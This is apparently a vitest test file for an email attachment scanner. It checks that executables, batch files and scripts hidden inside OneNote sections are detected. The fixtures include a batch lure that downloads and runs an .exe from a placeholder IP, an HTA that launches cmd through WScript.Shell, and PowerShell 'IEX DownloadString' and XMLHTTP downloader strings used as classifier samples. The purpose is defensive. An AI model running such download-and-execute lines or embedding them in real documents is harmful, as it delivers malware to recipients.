import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import * as p from '../../../../test-fixtures/attachments/payloads.mjs';
import type { Finding } from '../types.js';
import { makeContext, makeMessage, makePolicy } from '../test-helpers.js';
import { attachmentsScanner } from './index.js';
import { FILE_DATA_HEADER, fileDataStoreObject, makeOneNote } from './lure-fixtures.js';
import { embeddedKind, ONENOTE_MAGIC, ONENOTE_MAX_FILES, oneNoteFileNames, oneNoteFiles } from './onenote.js';
import { fakeClamd, makeAttachment } from './test-helpers.js';

/** OneNote sections with files embedded in FileDataStoreObjects (onenote.ts). */

const HTA = Buffer.from(
  `<html><head><title>Tai lieu</title><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"/>\r\n<script language="VBScript">\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c echo ${p.MARKER}", 0\r\nself.close\r\n</script></head><body></body></html>`,
  'latin1',
);
const BAT = Buffer.from('@echo off\r\ncurl -o %TEMP%\\a.exe http://198.51.100.7/a\r\nstart "" %TEMP%\\a.exe\r\n', 'latin1');

/** A minimal PNG: signature, IHDR, one IDAT, IEND (CRCs are not checked by the readers here). */
function makePng(): Buffer {
  const chunk = (type: string, body: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(body.length, 0);
    return Buffer.concat([len, Buffer.from(type, 'latin1'), body, Buffer.alloc(4)]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(2, 0);
  ihdr.writeUInt32BE(2, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc(14))), chunk('IEND', Buffer.alloc(0))]);
}

const scan = async (name: string, data: Buffer, needles: Record<string, string> = {}) => {
  const att = makeAttachment(name, data, { id: 'a1' });
  return attachmentsScanner.scan(makeMessage({ attachments: [att] }), makeContext(makePolicy(), { clamd: fakeClamd({ needles }) }));
};
const embedded = (fs: Finding[]) => fs.filter((f) => f.kind === 'attachment.embedded-object');

describe('OneNote embedded files', () => {
  it('finds an embedded HTA by its content, names the file OneNote shows, and walks it (clamd sees it)', async () => {
    const one = makeOneNote([HTA], ['Open.hta']);
    const fs = await scan('hoa-don.one', one, { 'Test.Marker': p.MARKER });
    expect(embedded(fs).map((f) => f.tags)).toEqual([['onenote', 'hta', 'executable']]);
    expect(embedded(fs)[0]!.detail).toContain('"Open.hta"');
    // clamd gets the embedded file as a file of its own (besides the whole section)
    expect(fs.filter((f) => f.kind === 'attachment.virus').map((f) => f.subject)).toContain('hoa-don.one → embedded file 1');
  });

  it('finds an embedded program (by true type) and a batch file, even in a section not named .one', async () => {
    const fs = await scan('tai-lieu.dat', makeOneNote([p.makePe(), BAT], ['Click to view.exe']));
    expect(embedded(fs).map((f) => f.tags)).toEqual([['onenote', 'exe', 'bat', 'executable']]);
    // the program itself is also checked as a file of its own
    expect(fs.some((f) => f.kind === 'attachment.dangerous-type' && f.subject === 'tai-lieu.dat → embedded file 1')).toBe(true);
  });

  it('says nothing of a section with pictures only, or with none', async () => {
    expect(await scan('ghi-chu.one', makeOneNote([makePng(), makePng()]))).toEqual(
      // the name alone is already a dangerous type (names.ts): nothing else
      [expect.objectContaining({ kind: 'attachment.dangerous-type', subject: 'ghi-chu.one' })],
    );
    expect(embedded(await scan('ghi-chu.one', makeOneNote([])))).toEqual([]);
  });

  it('tells scripts from ordinary text by content', () => {
    const kind = (s: string) => embeddedKind(Buffer.from(s, 'latin1'), undefined).type;
    expect(kind('Set o = CreateObject("MSXML2.XMLHTTP")\r\no.open "GET", u')).toBe('vbs');
    expect(kind('IEX (New-Object Net.WebClient).DownloadString("http://x/a")')).toBe('ps1');
    expect(kind('var s = new ActiveXObject("WScript.Shell");')).toBe('js');
    expect(kind('<job id="a"><script language="JScript">x</script></job>')).toBe('wsf');
    expect(kind('<html><script language="VBScript">Sub Window_OnLoad</script></html>')).toBe('hta');
    expect(kind('<package><job id="a">\n<script src="x.js"/></job></package>')).toBe('wsf');
    expect(kind('Kế hoạch: start the meeting at 9.\r\nSet up the room = done')).toBe('file');
  });

  it('reads lengths that lie, and 4 MB of headers, within its caps', () => {
    const lying = Buffer.concat([ONENOTE_MAGIC, FILE_DATA_HEADER, Buffer.from('ffffffffffffffff', 'hex'), Buffer.alloc(12), Buffer.from('abc')]);
    expect(oneNoteFiles(lying).map((f) => f.toString())).toEqual(['abc']);
    const many = Buffer.concat([ONENOTE_MAGIC, Buffer.concat(Array.from({ length: 100_000 }, () => fileDataStoreObject(Buffer.alloc(0))))]);
    const t0 = performance.now();
    expect(oneNoteFiles(many)).toHaveLength(ONENOTE_MAX_FILES);
    oneNoteFileNames(Buffer.from('.exe'.repeat(1 << 20), 'utf16le'));
    oneNoteFileNames(Buffer.from(`${'a'.repeat(4 << 20)}.hta`, 'utf16le'));
    expect(performance.now() - t0).toBeLessThan(3000);
  });
});
